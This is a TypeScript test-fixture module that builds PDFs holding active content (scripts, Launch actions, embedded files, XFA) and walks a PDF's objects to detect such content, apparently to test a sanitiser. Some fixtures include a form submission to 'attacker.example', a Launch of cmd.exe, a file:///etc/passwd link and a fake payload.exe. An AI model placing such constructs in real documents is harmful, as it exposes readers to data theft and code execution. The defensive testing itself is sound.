import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFHexString,
  PDFName,
  PDFRef,
  PDFStream,
  PDFString,
  StandardFonts,
  type PDFObject,
} from 'pdf-lib';

/**
 * PDFs carrying each kind of active content a viewer may run or open (issue 10, item 2), built
 * object by object with pdf-lib, and a walker that lists what of it a PDF still holds.
 */

export const ACTIVE_CONTENT_KINDS = [
  'openaction-js',
  'page-aa',
  'link-js',
  'names-javascript',
  'launch',
  'uri-file',
  'embedded-files',
  'file-attachment',
  'xfa',
] as const;
export type ActiveContentKind = (typeof ACTIVE_CONTENT_KINDS)[number];

/** What activeContentIn reports for each kind, so a test can first prove the fixture holds it. */
export const FINDING_OF: Readonly<Record<ActiveContentKind, string>> = {
  'openaction-js': '/OpenAction',
  'page-aa': '/AA',
  'link-js': 'action /JavaScript',
  'names-javascript': '/JavaScript',
  launch: 'action /Launch',
  'uri-file': 'file: URI',
  'embedded-files': '/EmbeddedFiles',
  'file-attachment': '/Subtype /FileAttachment',
  xfa: '/XFA',
};

/**
 * A one-page PDF showing `lines`, plus the active content of `kinds`. `stamp` adds an annotation
 * whose appearance shows that text (as a filled form field or a stamp does), with a script of its own.
 */
export async function makeActivePdf(
  kinds: readonly ActiveContentKind[],
  lines: readonly string[],
  options: { stamp?: string } = {},
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([612, 792]);
  lines.forEach((line, index) => page.drawText(line, { x: 72, y: 700 - index * 20, size: 14, font }));
  const context = doc.context;
  const script = (code: string) => context.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
  const link = (action: PDFObject, y: number) =>
    context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [72, y, 300, y + 20], Border: [0, 0, 0], A: action }));
  const fileSpec = () =>
    context.register(
      context.obj({
        Type: 'Filespec',
        F: PDFString.of('payload.exe'),
        UF: PDFHexString.fromText('payload.exe'),
        EF: { F: context.register(context.stream('MZ not really a program', { Type: 'EmbeddedFile' })) },
      }),
    );
  const annotations: PDFRef[] = [];
  const names: Record<string, PDFObject> = {};

  for (const kind of kinds) {
    switch (kind) {
      case 'openaction-js':
        doc.catalog.set(PDFName.of('OpenAction'), context.register(script('app.alert("opened")')));
        break;
      case 'page-aa':
        page.node.set(PDFName.of('AA'), context.obj({ O: script('app.alert("page open")'), C: script('app.alert("page close")') }));
        break;
      case 'link-js':
        annotations.push(link(script('this.submitForm("https://attacker.example/")'), 500));
        break;
      case 'names-javascript':
        names.JavaScript = context.obj({ Names: [PDFString.of('startup'), context.register(script('app.alert("named")'))] });
        break;
      case 'launch':
        annotations.push(
          link(context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('calc.exe'), Win: { F: PDFString.of('cmd.exe') } }), 460),
        );
        break;
      case 'uri-file':
        annotations.push(link(context.obj({ Type: 'Action', S: 'URI', URI: PDFString.of('file:///etc/passwd') }), 420));
        break;
      case 'embedded-files':
        names.EmbeddedFiles = context.obj({ Names: [PDFString.of('payload.exe'), fileSpec()] });
        break;
      case 'file-attachment':
        annotations.push(
          context.register(
            context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [400, 700, 420, 720], Name: 'PushPin', FS: fileSpec() }),
          ),
        );
        break;
      case 'xfa':
        doc.catalog.set(
          PDFName.of('AcroForm'),
          context.obj({
            Fields: [],
            XFA: context.register(
              context.stream(
                '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>app.alert("xfa")</script></template></xdp:xdp>',
              ),
            ),
          }),
        );
        break;
    }
  }
  if (options.stamp) {
    const appearance = context.register(
      context.stream(`BT /Helv 12 Tf 4 6 Td (${options.stamp}) Tj ET`, {
        Type: 'XObject',
        Subtype: 'Form',
        BBox: [0, 0, 260, 24],
        Resources: { Font: { Helv: font.ref } },
      }),
    );
    annotations.push(
      context.register(
        context.obj({
          Type: 'Annot',
          Subtype: 'FreeText',
          Rect: [72, 300, 332, 324],
          F: 4,
          AP: { N: appearance },
          AA: { E: script('app.alert("hover")') },
        }),
      ),
    );
  }
  if (annotations.length > 0) page.node.set(PDFName.of('Annots'), context.obj(annotations));
  if (Object.keys(names).length > 0) doc.catalog.set(PDFName.of('Names'), context.obj(names));
  return Buffer.from(await doc.save({ useObjectStreams: false }));
}

const FLAGGED_KEYS = new Set(['/JS', '/JavaScript', '/AA', '/OpenAction', '/EmbeddedFiles', '/EF', '/XFA', '/AcroForm', '/Launch', '/FS']);
const FLAGGED_ACTIONS = new Set([
  '/JavaScript',
  '/Launch',
  '/URI',
  '/SubmitForm',
  '/ImportData',
  '/GoToR',
  '/GoToE',
  '/Rendition',
  '/Movie',
  '/Sound',
]);

const text = (value: PDFObject | undefined) =>
  value instanceof PDFString || value instanceof PDFHexString
    ? value.decodeText()
    : value instanceof PDFName
      ? value.asString()
      : undefined;

/**
 * Every kind of active content left in a PDF, found by walking every object it holds (not only
 * those reachable from its catalogue): script and action keys, actions by type, file: links,
 * file specifications and embedded files, file-attachment annotations, forms.
 */
export async function activeContentIn(bytes: Uint8Array): Promise<string[]> {
  const doc = await PDFDocument.load(bytes, { updateMetadata: false });
  const findings = new Set<string>();
  const seen = new Set<PDFObject>();
  const visit = (object: PDFObject | undefined): void => {
    if (object === undefined || seen.has(object)) return;
    seen.add(object);
    if (object instanceof PDFStream) return visit(object.dict);
    if (object instanceof PDFArray) {
      for (let index = 0; index < object.size(); index++) visit(object.get(index));
      return;
    }
    if (!(object instanceof PDFDict)) return;
    for (const [key, value] of object.entries()) {
      const name = key.asString();
      if (FLAGGED_KEYS.has(name)) findings.add(name);
      if (name === '/S' && FLAGGED_ACTIONS.has(text(value) ?? '')) findings.add(`action ${text(value)}`);
      if (name === '/URI' && /^\s*file:/i.test(text(value) ?? '')) findings.add('file: URI');
      if (
        (name === '/Type' && ['/Filespec', '/EmbeddedFile'].includes(text(value) ?? '')) ||
        (name === '/Subtype' && text(value) === '/FileAttachment')
      ) {
        findings.add(`${name} ${text(value)}`);
      }
      visit(value);
    }
  };
  for (const [, object] of doc.context.enumerateIndirectObjects()) visit(object);
  return [...findings].sort();
}
